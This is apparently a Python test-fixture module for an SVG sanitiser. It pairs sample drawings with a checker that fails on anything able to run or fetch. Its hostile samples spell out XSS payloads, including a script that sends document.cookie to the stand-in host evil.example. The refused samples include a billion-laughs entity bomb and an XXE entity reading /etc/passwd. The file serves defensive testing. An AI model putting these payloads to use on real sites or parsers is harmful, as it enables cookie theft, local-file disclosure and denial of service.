"""SVG files for the sanitiser's tests: hostile ones (each either refused or kept without its
hostile part, a harmless `rect id="garde"` beside it staying), refused ones, realistic drawings,
and `assert_safe`, which reads a sanitised file the way a browser would and fails on anything
that could run or fetch."""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET

SVG_NS = "http://www.w3.org/2000/svg"
XLINK_NS = "http://www.w3.org/1999/xlink"
HEAD = f'<svg xmlns="{SVG_NS}" xmlns:xlink="{XLINK_NS}" width="120" height="80" viewBox="0 0 120 80">'
GARDE = '<rect id="garde" x="10" y="10" width="50" height="30" fill="#1f5f8b"/>'
# A real 4 × 3 PNG, embedded as images are in an Inkscape file.
PNG_DATA = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAQAAAADCAIAAAA7ljmRAAAAFElEQVR4nGM8ISfHAANMDEgAhQMAJtoBCkAAOw8AAAAASUVORK5CYII="


def drawing(inner: str, head: str = HEAD) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{head}{GARDE}{inner}</svg>\n'.encode()


# name -> a file whose hostile part must be gone once sanitised.
HOSTILE = {
    "script element": drawing(
        '<script>alert(document.cookie)</script><script xlink:href="https://evil.example/x.js"/>'
        '<script type="text/ecmascript"><![CDATA[ fetch("https://evil.example/?" + document.cookie) ]]></script>'
    ),
    "script in another prefix": drawing(
        f'<s:script xmlns:s="{SVG_NS}">alert(1)</s:script>'
        '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(2)</h:script>'
    ),
    "onload and onclick": drawing(
        '<g onclick="alert(1)" onmouseover="alert(2)"><circle cx="5" cy="5" r="4" onfocusin="alert(3)"/></g>',
        head=HEAD.replace("<svg ", '<svg onload="alert(document.domain)" '),
    ),
    "javascript: link on a": drawing(
        '<a href="javascript:alert(1)"><text x="5" y="70">Cliquez</text></a>'
        '<a xlink:href="javascript:alert(2)" target="_top"><circle cx="90" cy="20" r="5"/></a>'
    ),
    "javascript: link on use": drawing(
        '<use href="javascript:alert(1)"/><use xlink:href="javascript:alert(2)//#garde"/>'
    ),
    "outside link on use and image": drawing(
        '<use xlink:href="https://evil.example/sprite.svg#icone"/><use href="//evil.example/s.svg#i"/>'
        '<image href="https://evil.example/pixel.png" width="1" height="1"/>'
        '<image xlink:href="http://evil.example/trace.svg" width="1" height="1"/>'
        '<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" width="1" height="1"/>'
        '<feImage href="https://evil.example/f.png"/>'
    ),
    "foreignObject with HTML": drawing(
        '<foreignObject width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml">'
        '<iframe src="javascript:alert(1)"></iframe><img src="x" onerror="alert(2)"/>'
        "<script>alert(3)</script></body></foreignObject>"
    ),
    "animate and set changing a link": drawing(
        '<a><set attributeName="href" to="javascript:alert(1)"/><text x="5" y="70">Lien</text></a>'
        '<use href="#garde"><animate attributeName="href" values="javascript:alert(2)"/></use>'
        '<a xlink:href="#garde"><animate attributeName="xlink:href" begin="0s" to="javascript:alert(3)"/>'
        '<animateTransform attributeName="transform" type="rotate" to="90"/>'
        '<animateMotion dur="1s"><mpath xlink:href="https://evil.example/p.svg#p"/></animateMotion></a>'
    ),
    "style element with @import and outside url": drawing(
        "<style>@import url(https://evil.example/a.css); @import 'https://evil.example/b.css';"
        "rect { fill: url(https://evil.example/p.svg#p); stroke: blue }"
        "circle { background: url(https://evil.example/b.png) } "
        "@font-face { font-family: X; src: url(https://evil.example/f.woff) }"
        "text { fill: u\\72l(https://evil.example/e.svg#x) }"
        "g { behavior: url(https://evil.example/x.htc); -moz-binding: url(https://evil.example/x.xml#x) }</style>"
    ),
    "style attribute with url(javascript:…)": drawing(
        '<rect x="70" y="10" width="20" height="20" '
        'style="fill:url(javascript:alert(1));stroke:red;background-image:url(https://evil.example/b.png);'
        'stroke-width:2;filter:url(&quot;https://evil.example/f.svg#f&quot;);mask:image-set(&quot;https://evil.example/m.png&quot; 1x)"/>'
        '<rect x="90" y="10" width="20" height="20" fill="url(https://evil.example/p.svg#g)" '
        'stroke="u\\rl(https://evil.example/s.svg#s)" clip-path="url(#garde)"/>'
    ),
    "outside links on gradients, text paths and stylesheets": drawing(
        '<defs><linearGradient id="l" xlink:href="https://evil.example/g.svg#g"/>'
        '<pattern id="p" href="javascript:alert(1)"/></defs>'
        '<text><textPath xlink:href="https://evil.example/p.svg#chemin">texte</textPath></text>',
        head='<?xml-stylesheet href="https://evil.example/x.css" type="text/css"?>' + HEAD,
    ),
}

# name -> (file, what the API says, what the page says in French)
REFUSED = {
    "billion laughs": (
        b'<?xml version="1.0"?>\n<!DOCTYPE svg [\n <!ENTITY lol "lol">\n'
        b' <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
        b' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n'
        b' <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n]>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&lol4;</text></svg>\n',
        "This SVG file contains a DTD declaration",
        "Ce fichier SVG contient une déclaration DTD (<!DOCTYPE …>), refusée parce qu'elle peut cacher des entités dangereuses",
    ),
    "XXE": (
        b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&secret;</text></svg>\n',
        "This SVG file contains a DTD declaration",
        "Ce fichier SVG contient une déclaration DTD",
    ),
    "DOCTYPE": (
        b'<?xml version="1.0" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>\n',
        "This SVG file contains a DTD declaration",
        "Ce fichier SVG contient une déclaration DTD",
    ),
    "malformed": (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">\n  <rect width="10">\n</svg>\n',
        "This SVG file is malformed (line 4): it cannot be read.",
        "Ce fichier SVG est mal formé (ligne 4) : il ne peut pas être lu.",
    ),
    "undefined entity": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&nbsp;Bonjour</text></svg>',
        "This SVG file is malformed (line 1)",
        "Ce fichier SVG est mal formé (ligne 1)",
    ),
    "nested too deeply": (
        b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * 5000 + b"</g>" * 5000 + b"</svg>",
        "This SVG file is nested too deeply (more than 200 levels) to be checked.",
        "Ce fichier SVG est imbriqué trop profondément (plus de 200 niveaux) pour être vérifié.",
    ),
}

# A logo as Inkscape 1.3 saves it ("Inkscape SVG"): its namespaces and metadata, gradients (one
# built on another), a symbol used twice, paths, text with tspans, a clip, a marker, a filter.
INKSCAPE = """<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->

<svg
   width="210mm"
   height="99mm"
   viewBox="0 0 210 99"
   version="1.1"
   id="svg1"
   inkscape:version="1.3.2 (091e20e, 2023-11-25)"
   sodipodi:docname="logo-carrefour.svg"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:xlink="http://www.w3.org/1999/xlink"
   xmlns="http://www.w3.org/2000/svg"
   xmlns:svg="http://www.w3.org/2000/svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
   xmlns:cc="http://creativecommons.org/ns#"
   xmlns:dc="http://purl.org/dc/elements/1.1/">
  <sodipodi:namedview
     id="namedview1"
     pagecolor="#ffffff"
     bordercolor="#000000"
     inkscape:zoom="0.7"
     inkscape:current-layer="layer1" />
  <defs
     id="defs1">
    <linearGradient
       id="linearGradient2"
       inkscape:collect="always">
      <stop
         style="stop-color:#1f5f8b;stop-opacity:1;"
         offset="0"
         id="stop1" />
      <stop
         style="stop-color:#7fb3d5;stop-opacity:1;"
         offset="1"
         id="stop2" />
    </linearGradient>
    <linearGradient
       inkscape:collect="always"
       xlink:href="#linearGradient2"
       id="linearGradient3"
       x1="10"
       y1="10"
       x2="90"
       y2="90"
       gradientUnits="userSpaceOnUse" />
    <radialGradient
       id="radialGradient4"
       cx="150"
       cy="50"
       r="40"
       fx="140"
       fy="40"
       gradientUnits="userSpaceOnUse">
      <stop offset="0" stop-color="#fdfdfd" />
      <stop offset="1" stop-color="#e8a33d" stop-opacity="0.8" />
    </radialGradient>
    <symbol id="feuille" viewBox="0 0 20 20">
      <path d="M 10,0 C 15,5 15,15 10,20 5,15 5,5 10,0 Z" style="fill:#3c8d2f" />
    </symbol>
    <clipPath clipPathUnits="userSpaceOnUse" id="clipPath5">
      <rect x="0" y="0" width="100" height="99" id="rect5" />
    </clipPath>
    <marker id="fleche" orient="auto" markerWidth="6" markerHeight="6" refX="3" refY="3">
      <path d="M 0,0 6,3 0,6 Z" fill="context-stroke" />
    </marker>
    <filter id="ombre" x="-0.1" y="-0.1" width="1.2" height="1.2" style="color-interpolation-filters:sRGB">
      <feGaussianBlur in="SourceAlpha" stdDeviation="1.5" result="flou" />
      <feOffset dx="1" dy="1" result="decale" />
      <feMerge><feMergeNode in="decale" /><feMergeNode in="SourceGraphic" /></feMerge>
    </filter>
  </defs>
  <metadata id="metadata1">
    <rdf:RDF>
      <cc:Work rdf:about="">
        <dc:title>Logo du Carrefour</dc:title>
        <dc:creator><cc:Agent><dc:title>Alice Rivard</dc:title></cc:Agent></dc:creator>
      </cc:Work>
    </rdf:RDF>
  </metadata>
  <title id="title1">Logo du Carrefour des savoirs</title>
  <desc id="desc1">Un cercle bleu et trois feuilles</desc>
  <g
     inkscape:label="Calque 1"
     inkscape:groupmode="layer"
     id="layer1"
     clip-path="url(#clipPath5)">
    <path
       style="fill:url(#linearGradient3);fill-opacity:1;stroke:#0b2f45;stroke-width:1.2;stroke-linecap:round;filter:url(#ombre)"
       d="M 50,10 A 40,40 0 0 1 90,50 40,40 0 0 1 50,90 40,40 0 0 1 10,50 40,40 0 0 1 50,10 Z"
       id="path1"
       sodipodi:nodetypes="ccccc"
       inkscape:label="Cercle" />
    <use xlink:href="#feuille" x="30" y="30" width="20" height="20" id="use1" />
    <use href="#feuille" x="50" y="40" width="20" height="20" transform="rotate(30 60 50)" id="use2" />
  </g>
  <circle cx="150" cy="50" r="40" fill="url(#radialGradient4)" id="circle1" />
  <line x1="100" y1="90" x2="200" y2="90" stroke="#0b2f45" stroke-width="1" marker-end="url(#fleche)" id="line1" />
  <polygon points="180,10 200,10 190,28" style="fill:#e8a33d" id="polygon1" />
  <text
     xml:space="preserve"
     style="font-style:normal;font-weight:bold;font-size:12px;font-family:'Source Sans 3';-inkscape-font-specification:'Source Sans 3 Bold';fill:#0b2f45"
     x="105"
     y="60"
     id="text1"><tspan
       sodipodi:role="line"
       id="tspan1"
       x="105"
       y="60">Carrefour</tspan><tspan
       sodipodi:role="line"
       x="105"
       y="75"
       id="tspan2"
       style="font-weight:normal;font-size:9px">des savoirs</tspan></text>
  <image width="8" height="6" x="200" y="0" preserveAspectRatio="none" xlink:href="{png}" id="image1" />
</svg>
""".replace("{png}", PNG_DATA).encode()

# A box with its label as draw.io exports it: the label is HTML in a foreignObject, with the same
# words in SVG text for what cannot show HTML (which is what stays), and draw.io's own notice.
DRAWIO = (
    f'<svg xmlns="{SVG_NS}" xmlns:xlink="{XLINK_NS}" version="1.1" width="161px" height="81px" '
    'viewBox="-0.5 -0.5 161 81" content="&lt;mxfile&gt;&lt;diagram&gt;…&lt;/diagram&gt;&lt;/mxfile&gt;" '
    'style="background-color: rgb(255, 255, 255);"><defs/><g>'
    '<rect x="0" y="0" width="160" height="80" rx="12" ry="12" fill="rgb(255, 255, 255)" stroke="rgb(0, 0, 0)" '
    'pointer-events="all"/><g transform="translate(-0.5 -0.5)"><switch>'
    '<foreignObject pointer-events="none" width="100%" height="100%" '
    'requiredFeatures="http://www.w3.org/TR/SVG11/feature#Extensibility" style="overflow: visible; text-align: left;">'
    '<div xmlns="http://www.w3.org/1999/xhtml" style="display: flex;"><div>Demande reçue</div></div></foreignObject>'
    '<text x="80" y="44" fill="rgb(0, 0, 0)" font-family="Helvetica" font-size="12px" text-anchor="middle">'
    'Demande reçue</text></switch></g></g><switch><g requiredFeatures="http://www.w3.org/TR/SVG11/feature#Extensibility"/>'
    '<a transform="translate(0,-5)" xlink:href="https://www.drawio.com/doc/faq/svg-export-text-problems" target="_blank">'
    '<text text-anchor="middle" font-size="10px" x="50%" y="100%">Text is not SVG - cannot display</text></a>'
    "</switch></svg>"
).encode()


def _local(tag: str) -> str:
    return tag.rsplit("}", 1)[-1]


_FRAGMENT_URL = re.compile(r"""url\(\s*["']?#[\w.:-]+["']?\s*\)""", re.IGNORECASE)
_ALLOWED = frozenset(
    (
        "svg g defs symbol use switch path rect circle ellipse line polyline polygon text tspan textPath title desc "
        "linearGradient radialGradient stop clipPath mask pattern marker filter image style feBlend feColorMatrix "
        "feComponentTransfer feComposite feConvolveMatrix feDiffuseLighting feDisplacementMap feDistantLight "
        "feDropShadow feFlood feFuncA feFuncB feFuncG feFuncR feGaussianBlur feMerge feMergeNode feMorphology "
        "feOffset fePointLight feSpecularLighting feSpotLight feTile feTurbulence"
    ).split()
)


def assert_safe(data: bytes) -> ET.Element:
    """Parse a sanitised file and fail on anything that could run or fetch; its root."""
    text = data.decode("utf-8")
    assert "<!DOCTYPE" not in text and "<!ENTITY" not in text and "<?xml-stylesheet" not in text
    root = ET.fromstring(data)
    assert root.tag == f"{{{SVG_NS}}}svg"
    for element in root.iter():
        assert element.tag.startswith(f"{{{SVG_NS}}}"), element.tag
        assert _local(element.tag) in _ALLOWED, element.tag
        for key, value in element.attrib.items():
            name = _local(key)
            assert not name.lower().startswith("on"), (element.tag, key)
            lowered = value.lower()
            assert "javascript:" not in lowered and "vbscript:" not in lowered, (key, value)
            assert "\\" not in value, (key, value)
            if name == "href":
                if _local(element.tag) == "image":
                    assert value.startswith(("data:image/png;base64,", "data:image/jpeg;base64,")), value
                else:
                    assert re.fullmatch(r"#[\w.:-]+", value), (element.tag, value)
            elif "url(" in lowered:
                assert len(re.findall(r"url\(", lowered)) == len(_FRAGMENT_URL.findall(value)), (key, value)
            if name != "content":  # draw.io's source of the diagram: words no browser reads
                assert "http:" not in lowered and "https:" not in lowered and "//" not in value, (key, value)
        if _local(element.tag) == "style":
            css = (element.text or "").lower()
            assert "@import" not in css and "@font-face" not in css and "\\" not in css, css
            assert len(re.findall(r"url\(", css)) == len(_FRAGMENT_URL.findall(css)), css
            assert "http" not in css and "behavior" not in css and "binding" not in css, css
    return root


def find(root: ET.Element, local: str) -> list[ET.Element]:
    return [e for e in root.iter() if _local(e.tag) == local]


def by_id(root: ET.Element, ident: str) -> ET.Element | None:
    return next((e for e in root.iter() if e.get("id") == ident), None)
